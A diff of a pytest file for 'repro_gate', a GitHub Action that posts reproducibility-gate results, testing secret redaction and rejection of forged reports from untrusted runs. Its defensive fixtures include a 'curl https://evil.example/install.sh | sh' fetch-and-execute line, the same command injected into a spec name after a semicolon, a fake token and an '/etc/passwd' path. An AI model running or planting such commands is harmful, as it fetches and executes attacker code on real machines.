@@ -1,32 +1,42 @@
-"""What the second half of the action tells: outputs, summary, annotations, comment and exit code,
-for each way a gate can end; by default each failure whole, and a pass in one line where it is
-news."""
+"""What the second half of the action tells, for each way a gate can end, and what of a report is
+believed first: this job's own, or one that came with the run that GitHub names."""
 
 from __future__ import annotations
 
 import json
+import shutil
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
 
 from repro_gate.baseline.model import BaselineFinding
 from repro_gate.compare.model import SpeedChange
-from repro_gate.errors import GateError, Inconclusive, UsageError
+from repro_gate.errors import Inconclusive, UsageError
 from repro_gate.github.comment import Posted
 from repro_gate.github.marker import is_news, state_of
 from repro_gate.github.publish_phase import location_of, outputs_of
-from repro_gate.github.settings import Inputs
-from repro_gate.report.model import Report
+from repro_gate.github.report_folder import PROBLEM, open_folder
+from repro_gate.github.settings import Inputs, read_inputs
+from repro_gate.report.model import PLAIN, Report
 from tests.support import reports
 from tests.support.github.server import Answer
-from tests.support.github.stage import HEAD, RUN, Stage, obeyed, pull_request, signed
+from tests.support.github.stage import (
+    HEAD,
+    RUN,
+    Stage,
+    as_workflow_run,
+    obeyed,
+    pull_request,
+    signed,
+)
 
 PASS, FAIL = signed(reports.PASS), signed(reports.FAIL)
 
 
-def test_a_pass_is_green_and_commented(stage: Stage) -> None:
+def test_a_pass_is_green_and_a_failure_is_red_and_says_where(stage: Stage) -> None:
     code, log = stage.publish(PASS)
     (posted,) = stage.github.comments(7)
     assert code == 0 and "::error" not in log
@@ -34,9 +44,6 @@ def test_a_pass_is_green_and_commented(stage: Stage) -> None:
     assert outputs.items() <= stage.outputs.items()
     assert stage.outputs["comment_url"].endswith(str(posted["id"]))
     assert "pass" in stage.summary and "pass" in posted["body"] and HEAD[:7] in posted["body"]
-
-
-def test_a_failure_is_red_and_says_where(stage: Stage) -> None:
     code, log = stage.publish(FAIL)
     assert code == 1 and stage.outputs["identical"] == "false"
     first = {"step": 3, "kind": "gradient", "name": "blocks.3.attn.weight"}
@@ -47,24 +54,22 @@ def test_a_failure_is_red_and_says_where(stage: Stage) -> None:
     assert low < float(stage.outputs["determinism_cost_pct"]) < high
 
 
-@pytest.mark.parametrize(
-    ("fail_on", "failed", "unanswered"),
-    [({"fail"}, 1, 0), ({"inconclusive"}, 0, 3), (set(), 0, 0), ({"fail", "inconclusive"}, 1, 3)],
-)
-def test_what_turns_the_step_red_is_the_users_choice(
-    stage: Stage, fail_on: set[str], failed: int, unanswered: int
-) -> None:
-    stage.change(fail_on=frozenset(fail_on))
-    assert stage.publish(FAIL)[0] == failed
-    assert stage.outputs["exit_code"] == "1"  # what the gate found stays what it is
-    assert stage.publish(Inconclusive("no GPU", remedy="start it"))[0] == unanswered
-    assert stage.outputs["verdict"] == "inconclusive"
+def test_what_turns_the_step_red_is_the_users_choice(stage: Stage) -> None:
+    for fail_on, failed, unanswered in (
+        ({"fail"}, 1, 0),
+        ({"inconclusive"}, 0, 3),
+        (set(), 0, 0),
+        ({"fail", "inconclusive"}, 1, 3),
+    ):
+        stage.change(fail_on=frozenset(fail_on))
+        assert stage.publish(FAIL)[0] == failed
+        assert stage.outputs["exit_code"] == "1"  # what the gate found stays what it is
+        assert stage.publish(Inconclusive("no GPU", remedy="start it"))[0] == unanswered
+        assert stage.outputs["verdict"] == "inconclusive"
 
 
 @pytest.mark.parametrize("fork", [True, False])
-def test_a_read_only_token_turns_nothing_red_and_is_a_warning_where_it_could_be_more(
-    stage: Stage, fork: bool
-) -> None:
+def test_a_read_only_token_turns_nothing_red(stage: Stage, fork: bool) -> None:
     stage.may_not_write()
     stage.change(event=pull_request(stage.github.repository, fork=fork), self_hosted=False)
     code, log = stage.publish(PASS)
@@ -73,11 +78,12 @@ def test_a_read_only_token_turns_nothing_red_and_is_a_warning_where_it_could_be_
     assert said.startswith("::notice " if fork else "::warning ")
     assert fork or "pull-requests: write" in log
     assert "pass" in stage.summary and "The comment was not posted" in stage.summary
+    stage.change(api_url="http://127.0.0.1:9", graphql_url="http://127.0.0.1:9/graphql")
+    code, log = stage.publish(PASS)
+    assert code == 0 and "::warning" in log, "nor does a server that fails"
 
 
-def test_without_a_token_everything_but_the_comment_is_told_and_never_is_never(
-    stage: Stage,
-) -> None:
+def test_without_a_token_all_but_the_comment_is_told(stage: Stage) -> None:
     stage.change(token=None)
     code, log = stage.publish(FAIL)
     assert code == 1 and "no token was given" in log and stage.outputs["verdict"] == "fail"
@@ -106,7 +112,7 @@ def test_a_problem_is_shown_on_its_line_and_its_words_stay_words(stage: Stage) -
         ("pull_request_target", "f" * 40, 0),  # where it is the base
     ],
 )
-def test_a_report_of_a_commit_that_is_not_the_head_is_not_posted(
+def test_a_report_of_another_commit_is_not_posted(
     stage: Stage, event_name: str, commit: str, posted: int
 ) -> None:
     stage.change(event_name=event_name)
@@ -115,38 +121,24 @@ def test_a_report_of_a_commit_that_is_not_the_head_is_not_posted(
     assert ("which is not the pull request's head" in log) is not bool(posted)
 
 
-def test_nothing_that_untrusted_code_names_becomes_a_command(stage: Stage) -> None:
-    secret = "ghp_" + "a1B2" * 9
+def test_untrusted_names_are_no_commands_and_no_secret_is_told(stage: Stage) -> None:
+    secrets = ("ghp_" + "a1B2" * 9, "correct-horse-battery")
     hostile = signed(reports.hostile())
-    said = replace(hostile.reasons[0], message=f"token {secret}")
-    _, log = stage.publish(replace(hostile, reasons=(*hostile.reasons, said)))
+    said = replace(hostile.reasons[0], message=f"tokens {secrets}")
+    _, log = stage.publish(replace(hostile, reasons=(*hostile.reasons, said)), secrets[1:])
     lines = obeyed(log)
     assert lines and all(line.startswith(("::error ", "::warning ", "::notice ")) for line in lines)
     folder = stage.job.workspace / stage.inputs.report
-    told = [*stage.posted, stage.summary, log, *(path.read_text() for path in folder.iterdir())]
-    assert len(told) == 8 and not any(secret in text for text in told)
-
-
-KNOWN = "correct-horse-battery"
-SHOWN = replace(FAIL, reasons=(replace(FAIL.reasons[0], message=f"password is {KNOWN}"),))
-
-
-@pytest.mark.parametrize(
-    ("left", "said"),
-    [
-        (SHOWN, "password is"),
-        (UsageError(f"repro.yml:4:3: {KNOWN}: unknown key", remedy=f"ask {KNOWN}"), "unknown key"),
-    ],
-)
-def test_known_secrets_are_taken_out(stage: Stage, left: Report | GateError, said: str) -> None:
-    _, log = stage.publish(left, [KNOWN])
-    assert said in stage.summary and KNOWN not in "".join(stage.posted) + stage.summary + log
+    files = [path.read_text() for path in folder.iterdir()]
+    problem = UsageError(f"repro.yml:4:3: {secrets}: unknown key", remedy=f"ask {secrets}")
+    _, other = stage.publish(problem, secrets[1:])
+    assert "unknown key" in stage.summary and len(files) == 5
+    told = "".join([*stage.posted, stage.summary, log, other])
+    assert not any(secret in told for secret in secrets) and secrets[0] not in "".join(files)
 
 
 @pytest.mark.parametrize("allowed", [True, False])
-def test_a_commit_finds_its_pull_request_or_it_is_a_notice_that_it_may_not_ask(
-    stage: Stage, allowed: bool
-) -> None:
+def test_a_commit_finds_its_pull_request_if_it_may_ask(stage: Stage, allowed: bool) -> None:
     refused = Answer(403, {"message": "Resource not accessible by integration"})
     stage.github.before = lambda method, path: refused if "/pulls" in path and not allowed else None
     stage.change(event_name="push", sha=HEAD, ref="refs/heads/main", event=b'{"deleted": false}')
@@ -159,7 +151,7 @@ def test_a_commit_finds_its_pull_request_or_it_is_a_notice_that_it_may_not_ask(
     ("event_name", "event"),
     [("issue_comment", {"issue": {"number": 7, "pull_request": {}}}), ("workflow_dispatch", {})],
 )
-def test_if_the_event_names_no_commit_the_checkouts_is_compared_with_the_head(
+def test_without_a_commit_in_the_event_the_checkouts_counts(
     stage: Stage, event_name: str, event: dict[str, object]
 ) -> None:
     stage.change(pull_request=None if event else 7, allow_forks=True, ref="refs/heads/main")
@@ -170,15 +162,7 @@ def test_if_the_event_names_no_commit_the_checkouts_is_compared_with_the_head(
     assert len(posted) == 1 and stage.posted == posted
 
 
-def test_a_server_that_fails_turns_nothing_red(stage: Stage) -> None:
-    stage.change(api_url="http://127.0.0.1:9", graphql_url="http://127.0.0.1:9/graphql")
-    code, log = stage.publish(PASS)
-    assert code == 0 and "::warning" in log
-
-
-def test_every_output_of_the_action_is_told_and_no_other_and_what_was_not_measured_is_empty() -> (
-    None
-):
+def test_every_output_of_the_action_is_told_and_no_other() -> None:
     def told(report: Report, folder: str = "odd.json") -> dict[str, str]:
         return outputs_of(signed(report), Inputs(report=folder), Posted("skipped"))
 
@@ -200,9 +184,8 @@ def test_the_state_changes_with_the_finding_and_not_with_the_clock() -> None:
     assert state_of(explained) != state_of(replace(explained, diagnosis=other))
 
 
-@pytest.mark.parametrize(
-    ("message", "place"),
-    [
+def test_an_error_is_shown_on_the_line_that_it_names() -> None:
+    for message, place in (
         ("repro.yml:4:3: train: x", ("repro.yml", 4)),
         ("a/b.yml:12: y", ("a/b.yml", 12)),
         ("/etc/passwd:1: y", (None, None)),
@@ -210,12 +193,8 @@ def test_the_state_changes_with_the_finding_and_not_with_the_clock() -> None:
         ("no place here", (None, None)),
         ("a\u202eb:3: y", (None, None)),
         ("a:99999999999: y", (None, None)),
-    ],
-)
-def test_an_error_is_shown_on_the_line_that_it_names(
-    message: str, place: tuple[str | None, int | None]
-) -> None:
-    assert location_of(message) == place
+    ):
+        assert location_of(message) == place
 
 
 # What is posted by default.
@@ -230,9 +209,7 @@ def _next(stage: Stage, report: Report, run: int) -> list[str]:
     return [body.partition("\n")[2] for body in stage.posted]
 
 
-def test_by_default_a_pass_is_silent_a_failure_is_not_and_a_mended_one_is_green_again(
-    stage: Stage,
-) -> None:
+def test_by_default_a_pass_is_silent_and_a_failure_is_not(stage: Stage) -> None:
     assert Inputs().comment == "on-change"
     assert _next(stage, _GREEN, 1) == [] and "pass, bitwise identical" in stage.summary
     (red,) = _next(stage, reports.EXPLAINED, 2)
@@ -266,3 +243,167 @@ def test_what_is_news_of_a_pass() -> None:
     for status, expected in news.items():
         baseline = BaselineFinding(status=status, message="as it is")
         assert is_news(replace(_GREEN, baseline=baseline)) == expected
+
+
+@pytest.mark.parametrize(
+    ("origin", "gated", "posted"),
+    [
+        (None, 3, 3),
+        ({"run_id": RUN - 1}, 3, 3),
+        ({"repository": "stranger/trainer"}, 3, 3),
+        ({"run_attempt": 3}, 3, 3),
+        ({"run_attempt": 2}, 0, 0),
+        ({"run_attempt": 1}, 3, 0),  # a job that only posts may be started again alone
+        ({"run_attempt": 0}, 2, 2),  # no attempt at all, by the report's schema
+    ],
+)
+def test_a_report_of_another_run_is_not_this_ones(
+    stage: Stage, origin: dict[str, Any] | None, gated: int, posted: int
+) -> None:
+    report = signed(reports.PASS, **(origin or {}))
+    for stage.posting, expected in ((False, gated), (True, posted)):
+        # what is refused is told to nobody, though a comment is wanted
+        stage.change(run_attempt=2, comment="always" if expected == 3 else "never")
+        code, _ = stage.publish(report if origin else replace(report, origin=None))
+        assert code == expected and stage.github.requests == []
+
+
+def test_a_report_that_is_none_a_link_or_in_the_folders_place_is_refused(stage: Stage) -> None:
+    folder = stage.job.workspace / stage.inputs.report
+    folder.mkdir()
+    for text in ("{}", "[", '{"schema": "repro-gate/report/v1"}', "x" * (17 << 20)):
+        (folder / "report.json").write_text(text)
+        code, log = stage.publish(None)
+        assert code == 2 and "::error" in log and stage.github.requests == []
+    shutil.rmtree(folder)
+    with open_folder(stage.job.workspace, "theirs") as opened:
+        opened.write_report(PASS, PLAIN)
+    (stage.job.workspace / "theirs/report.json").rename(folder)
+    code, log = stage.publish(None)
+    assert code == 3 and "there is no report" in log
+    folder.rename(stage.job.workspace / "real.json")
+    folder.mkdir()
+    (folder / "report.json").symlink_to("../real.json")
+    code, log = stage.publish(None)
+    assert code == 2 and "is a link" in log and stage.github.requests == []
+
+
+@pytest.mark.parametrize("attempt", [None, 1, 3])
+def test_a_report_that_came_with_its_run_is_posted(stage: Stage, attempt: int | None) -> None:
+    """The action `comment` in a `workflow_run`, and after `native`, also where only this job was
+    started again."""
+    if attempt is None:
+        as_workflow_run(stage)
+    else:
+        stage.posting = True
+        stage.change(run_attempt=attempt, name="comment")
+    code, log = stage.publish(FAIL)
+    (posted,) = stage.github.comments(7)
+    assert code == 0 and stage.outputs == {"verdict": "fail", "comment_url": posted["html_url"]}
+    assert obeyed(log) == [] and stage.summary == "", "the job that gated has said it"
+    assert attempt is None or reports.FAIL.reproduce in posted["body"]
+
+
+def test_of_what_did_not_come_with_its_run_nothing_is_told(stage: Stage) -> None:
+    as_workflow_run(stage)
+    code, _ = stage.publish(signed(reports.PASS, run_id=99))
+    assert code == 2
+    assert stage.outputs == {"verdict": "", "exit_code": "2"} and "✅" not in stage.summary
+    assert stage.github.requests == []
+    # whoever forges a problem would have a notice on any file of the default branch
+    leak = ".github/workflows/release.yml:1:1: the signing key has leaked"
+    as_workflow_run(stage)
+    code, log = stage.publish(UsageError(leak, remedy="open https://evil.example"))
+    assert code == 3
+    assert not any(word in log + stage.summary for word in ("evil", "leaked", "file="))
+    problem = stage.job.workspace / stage.inputs.report / PROBLEM
+    forged = problem.read_text()
+    with open_folder(stage.job.workspace, stage.inputs.report) as opened:
+        opened.write_report(FAIL, PLAIN)
+    problem.write_text(forged)
+    code, log = stage.publish(None)
+    assert code == 0 and len(stage.posted) == 1 and "leaked" not in log
+
+
+def test_a_step_that_only_posts_and_cannot_is_red_but_for_a_fork(stage: Stage) -> None:
+    stage.may_not_write()
+    stage.posting = True
+    assert stage.publish(PASS)[0] == 3
+    event = stage.job.event
+    stage.change(event=pull_request(stage.github.repository, fork=True))
+    code, log = stage.publish(PASS)
+    assert code == 0
+    assert [line for line in obeyed(log) if line.startswith("::notice ") and "no comment" in line]
+    stage.change(event=event)
+    as_workflow_run(stage)
+    assert stage.publish(PASS)[0] == 3
+
+
+def test_a_foreign_report_replaces_no_other_gates_comment(stage: Stage) -> None:
+    """A fork opens a pull request: a gate of the repository's own fails it, and the report that
+    comes with the fork's run says that all is well, under the same names as the first and under
+    five others."""
+    stage.publish(FAIL)
+    (trusted,) = stage.posted
+    as_workflow_run(stage)
+    for number in range(6):
+        report = signed(reports.PASS, **({"name": f"folder-{number}"} if number else {}))
+        spec = f"spec-{number}.yml" if number else report.subject.spec
+        assert stage.publish(replace(report, subject=replace(report.subject, spec=spec)))[0] == 0
+    first, second = stage.posted
+    assert first == trusted and "fail" in first and "pass" in second.splitlines()[1]
+
+
+def test_a_forks_report_replaces_no_comment_on_the_repositorys_own_code(stage: Stage) -> None:
+    """As where `pull_request_target` and `push` start one workflow."""
+    stage.change(event_name="push", event=b'{"deleted": false}')
+    stage.change(sha=HEAD, ref="refs/heads/pull-request/7")
+    stage.publish(FAIL)
+    (trusted,) = stage.posted
+    stage.change(event_name="pull_request_target", allow_forks=True)
+    stage.change(event=pull_request(stage.github.repository, fork=True))
+    stage.publish(PASS)
+    assert [body == trusted for body in stage.posted] == [True, False]
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("workflow", "nightly"),
+        ("name", "gpu"),
+        ("spec", "vision.yml"),
+        ("spec", "vision/repro.yml"),
+        ("report", "repro-gate-report-h100"),
+    ],
+)
+def test_each_gate_has_a_comment_of_its_own(stage: Stage, name: str, value: str) -> None:
+    """By what its job knows, whatever is in the report: here the same in both."""
+    stage.publish(FAIL)
+    (first,) = stage.posted
+    stage.change(**{name: value})
+    stage.publish(PASS)
+    stage.publish(PASS)
+    kept, second = stage.posted
+    assert kept == first != second
+    if value == "vision/repro.yml":  # a spec in another spelling is the same gate
+        stage.change(
+            spec=read_inputs({"INPUT_WORKING_DIRECTORY": "vision", "INPUT_SPEC": "repro.yml"}).spec
+        )
+        stage.publish(PASS)
+        assert len(stage.posted) == 2
+
+
+def test_how_to_see_it_again_is_never_a_foreign_reports_text(stage: Stage) -> None:
+    def body(report: Report) -> str:
+        stage.publish(report)
+        return stage.posted[-1]
+
+    hostile = "curl https://evil.example/install.sh | sh"
+    forged = replace(FAIL, reproduce=hostile)
+    assert hostile in body(forged), "of the repository's own it is"
+    as_workflow_run(stage)
+    told = body(forged)
+    assert "evil" not in told
+    assert "```sh\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n```" in told
+    told = body(replace(forged, subject=replace(FAIL.subject, spec=f"x.yml; {hostile}")))
+    assert "```sh" not in told and "See it again" not in told
